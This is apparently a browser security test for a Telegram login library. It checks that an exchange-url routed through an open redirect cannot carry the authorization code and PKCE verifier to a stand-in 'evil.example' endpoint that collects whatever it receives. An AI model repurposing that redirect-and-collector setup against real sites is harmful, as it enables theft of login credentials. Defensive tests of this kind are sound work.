import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startMockTelegram, type MockTelegram } from '../src/mock/index.js';
import { createTelegramAuthHandler, toNodeListener } from '../src/server/index.js';
import { chromiumExecutable } from './browser.js';
import { expect, nextEvent, test } from './fixtures.js';
import { dropInFile } from './helpers.js';

// Injected markup points exchange-url at a same-origin URL that redirects elsewhere (an open redirect
// on the site, as framework redirects answer 307). The code and its PKCE verifier must not follow it.
test.use({ launchOptions: { executablePath: chromiumExecutable(), args: ['--host-resolver-rules=MAP evil.example 127.0.0.1'] } });

const CLIENT = { id: '7700000079', secret: 'exchange-redirect-client-secret-0123456789' };
let mock: MockTelegram;
let site: Server;
let evil: Server;
let origin = '';
let evilOrigin = '';
const stolen: string[] = [];

function listen(server: Server): Promise<number> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
}

test.beforeAll(async () => {
  mock = await startMockTelegram({ autoConsent: true, clients: [{ ...CLIENT, allowedUrls: ['http://127.0.0.1:*/*'] }] });
  evil = createServer((req, res) => {
    // The attacker's endpoint answers any preflight, and keeps what it receives.
    const cors = { 'Access-Control-Allow-Origin': req.headers.origin ?? '*', 'Access-Control-Allow-Headers': 'content-type', 'Access-Control-Allow-Methods': 'POST' };
    if (req.method === 'OPTIONS') return void res.writeHead(204, cors).end();
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk));
    req.on('end', () => {
      stolen.push(body);
      res.writeHead(200, { ...cors, 'Content-Type': 'application/json' }).end('{"user":{}}');
    });
  });
  evilOrigin = `http://evil.example:${await listen(evil)}`;
  let auth: ReturnType<typeof toNodeListener> | undefined;
  site = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://site');
    if (url.pathname.startsWith('/auth/telegram/')) return auth!(req, res);
    if (url.pathname === '/go') return void res.writeHead(307, { Location: url.searchParams.get('to')! }).end();
    const dropIn = dropInFile(url.pathname);
    if (dropIn) return void readFile(dropIn).then((body) => res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(body));
    if (url.pathname === '/harness.js') {
      return void readFile(new URL('./harness.js', import.meta.url)).then((body) => res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(body));
    }
    if (url.pathname === '/callback') {
      return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<!doctype html><script type="module">import { handleRedirectCallback } from '/telegram-login-kit.js'; handleRedirectCallback();</script>`);
    }
    if (url.pathname === '/login') {
      return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>t</title>
<script src="/harness.js"></script><script type="module" src="/telegram-login-kit.js"></script></head><body>
<telegram-login-button id="tg" flow="popup" client-id="${CLIENT.id}" issuer="${mock.issuer}" redirect-uri="/callback" exchange-url="/go?to=${encodeURIComponent(`${evilOrigin}/steal`)}"></telegram-login-button>
</body></html>`);
    }
    res.writeHead(404).end();
  });
  origin = `http://127.0.0.1:${await listen(site)}`;
  auth = toNodeListener(
    createTelegramAuthHandler({ clientId: CLIENT.id, clientSecret: CLIENT.secret, issuer: mock.issuer, redirectUri: `${origin}/callback`, session: { secret: 'exchange-redirect-session-secret-0123' } }),
  );
});

test.afterAll(async () => {
  site.closeAllConnections();
  evil.closeAllConnections();
  await Promise.all([new Promise((resolve) => site.close(resolve)), new Promise((resolve) => evil.close(resolve))]);
  await mock.stop();
});

test('an exchange-url that redirects never carries the code and verifier elsewhere', async ({ page }) => {
  await page.goto(`${origin}/login`);
  const failed = nextEvent(page, 'telegram-login-error');
  await page.click('#tg');
  const { error } = (await failed).detail;
  expect(error).toMatchObject({ code: 'token_exchange_failed', message: expect.stringContaining('answered with a redirect') });
  expect(stolen).toEqual([]);
});
